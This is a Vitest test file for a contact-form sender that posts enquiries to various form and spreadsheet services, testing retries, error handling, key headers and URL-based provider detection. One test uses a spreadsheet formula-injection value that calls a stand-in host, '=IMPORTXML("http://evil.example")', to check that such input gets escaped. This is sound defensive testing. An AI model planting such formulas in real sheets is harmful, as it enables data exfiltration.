import { expect, onTestFinished, test, vi } from "vitest";
import { sendForm } from "./http-post.server.ts";
import { type Shape, shapeOf, shapes } from "./shapes.ts";
import { faults, startProviders } from "./test-providers.ts";

const key = "key-4711-secret";
const fields = {
  name: "Asha Kumari",
  phone: "9876543210",
  email: "asha+shop@example.com",
  service: "kavach",
  message: "First line\nand “more”",
};

const limitMs = 3000;

/** Sends the fields in a shape to a double that answers with `fault` first, when one is named. */
async function send(
  shape: Shape,
  { fault, secret = key }: { fault?: keyof typeof faults; secret?: string } = {},
) {
  const providers = await startProviders(key);
  if (fault) providers.next.push(faults[fault]);
  const service = { url: providers.urlOf(shape), shape, secret };
  const post = { service, fields, key: "id-1", allow: [providers.host] };
  const again = () => sendForm({ target: "contact", ...post, limitMs });
  const outcome = fault === "slow" ? await outOfTime(again, providers.arrived) : await again();
  return { outcome, again, providers };
}

/** What comes of it when the limit is reached once the request has arrived. */
async function outOfTime<Result>(attempt: () => Promise<Result>, arrived: unknown[]): Promise<Result> {
  vi.useFakeTimers({ toFake: ["setTimeout"] });
  onTestFinished(() => void vi.useRealTimers());
  const outcome = attempt();
  await expect.poll(() => arrived.length).toBe(1);
  vi.advanceTimersByTime(limitMs);
  vi.useRealTimers();
  return outcome;
}

test.each(shapes)("%s takes an enquiry in its own shape, and every field arrives", async (shape) => {
  const { outcome, providers } = await send(shape);
  expect(outcome.outcome).toBe("sent");
  const { name, phone, ...others } = fields;
  const renamed = { firstName: name, phone: "+919876543210", ...others };
  expect(providers.received).toEqual([{ provider: shape, fields: shape === "forminit" ? renamed : fields }]);
  expect(providers.arrived[0]?.headers).toMatchObject({
    "idempotency-key": "id-1",
    accept: "application/json",
  });
});

test.each(shapes)("what %s answers is stored without our key", async (shape) => {
  expect((await send(shape)).outcome.answer).not.toContain(key);
});

const retried = ["slow", "reset", "truncated", "500", "429"] as const;
test.each(shapes.flatMap((shape) => retried.map((fault) => [shape, fault] as const)))(
  "%s: after “%s” the same is sent again, and is taken",
  async (shape, fault) => {
    const { outcome, again, providers } = await send(shape, { fault });
    // Of Sheet Monkey's answer nothing but the status counts: one that breaks off says "taken" as well.
    if (shape === "sheetmonkey" && fault === "truncated") return expect(outcome.outcome).toBe("sent");
    expect(outcome.outcome).toBe("retry");
    expect(outcome.retryAfterMs).toBe(fault === "429" ? 30_000 : undefined);
    expect((await again()).outcome).toBe("sent");
    const bodies = providers.arrived.map(({ body }) => body.replace(/formdata-\S+/g, ""));
    expect(bodies).toEqual([bodies[0], bodies[0]]);
  },
);

const lies = ["200 with an error", "200 with a page"] as const;
test.each(shapes.flatMap((shape) => lies.map((fault) => [shape, fault] as const)))(
  "%s: a “%s” is no success, except where only the status counts",
  async (shape, fault) => {
    const counts = shape === "sheetmonkey" && fault === "200 with an error";
    expect((await send(shape, { fault })).outcome.outcome).toBe(counts ? "sent" : "retry");
  },
);

const final = ["302", "403 of a strange referer", "422 of a field"] as const;
test.each(shapes.flatMap((shape) => final.map((fault) => [shape, fault] as const)))(
  "%s: after “%s” nothing is tried again",
  async (shape, fault) => {
    const { outcome } = await send(shape, { fault });
    expect(outcome).toMatchObject({ outcome: "failed", code: Number(fault.slice(0, 3)) });
  },
);

test.each(shapes)("%s: a quota that is used up pauses the target", async (shape) => {
  expect((await send(shape, { fault: "402" })).outcome).toMatchObject({
    outcome: "retry",
    code: 402,
    pauses: true,
  });
});

test.each(["web3forms", "forminit", "basin", "sheetdb", "sheetbest"] as const)(
  "%s refuses a wrong key, and that has failed",
  async (shape) => {
    const { outcome, providers } = await send(shape, { secret: "another key" });
    expect(outcome.outcome).toBe("failed");
    expect(providers.received).toEqual([]);
  },
);

test("Web3Forms' success is a 200 that says so, SheetDB's names a row", async () => {
  for (const [shape, body] of [
    ["web3forms", '{"message":"ok"}'],
    ["sheetdb", '{"created":0}'],
    ["sheetdb", "{}"],
  ] as const) {
    const providers = await startProviders(key);
    providers.reply = { status: 200, body };
    const service = { url: providers.urlOf(shape), shape };
    const outcome = await sendForm({ target: "contact", service, fields, key: "1", allow: [providers.host] });
    expect([shape, body, outcome.outcome]).toEqual([shape, body, "retry"]);
  }
});

test("a plain service's key is a bearer token, or the header that was named with it", async () => {
  for (const [secret, header, value] of [
    ["abc", "authorization", "Bearer abc"],
    ["X-Api-Key: abc", "x-api-key", "abc"],
  ] as const) {
    const { providers } = await send("json", { secret });
    expect(providers.arrived[0]?.headers[header]).toBe(value);
  }
  const { providers } = await send("json", { secret: "" });
  expect(providers.arrived[0]?.headers.authorization).toBeUndefined();
});

test("international numbers keep their country, spaces and all, for the one that wants E.164", async () => {
  const providers = await startProviders(key);
  const service = { url: providers.urlOf("forminit"), shape: "forminit", secret: key } as const;
  const abroad = { ...fields, phone: "+44 20 7946 0000" };
  await sendForm({ target: "contact", service, fields: abroad, key: "1", allow: [providers.host] });
  expect(providers.received[0]?.fields.phone).toBe("+442079460000");
});

test.each(["sheetmonkey", "sheetdb", "sheetbest"] as const)(
  "what a visitor began like a formula is plain text in %s",
  async (shape) => {
    const providers = await startProviders(key);
    const service = { url: providers.urlOf(shape), shape, secret: key };
    const nasty = {
      ...fields,
      name: '=IMPORTXML("http://evil.example")',
      message: "@SUM(A1)",
      phone: "+4420794600",
    };
    await sendForm({ target: "contact", service, fields: nasty, key: "1", allow: [providers.host] });
    const { name, message, phone, email } = providers.received[0]?.fields ?? {};
    expect([name?.[0], message?.[0], phone?.[0], email]).toEqual(["'", "'", "'", fields.email]);
  },
);

test.each([
  ["https://formspree.io/f/x", "formspree"],
  ["https://api.web3forms.com/submit", "web3forms"],
  ["https://api.getform.io/f/x", "getform"],
  ["https://forminit.com/f/x", "forminit"],
  ["https://usebasin.com/f/x", "basin"],
  ["https://api.sheetmonkey.io/form/x", "sheetmonkey"],
  ["https://sheetdb.io/api/v1/x", "sheetdb"],
  ["https://api.sheetbest.com/sheets/x", "sheetbest"],
  ["https://notformspree.io/f/x", "json"],
  ["https://formspree.io.evil.example/f/x", "json"],
] as const)("the shape of %s is found out: %s", (url, shape) => {
  expect(shapeOf(url, "auto", "json")).toBe(shape);
  expect(shapeOf(url, "multipart", "json")).toBe("multipart");
});

test("a host that nobody knows gets what the form is usually sent as", () => {
  expect(shapeOf("https://forms.example/f", "auto", "multipart")).toBe("multipart");
});
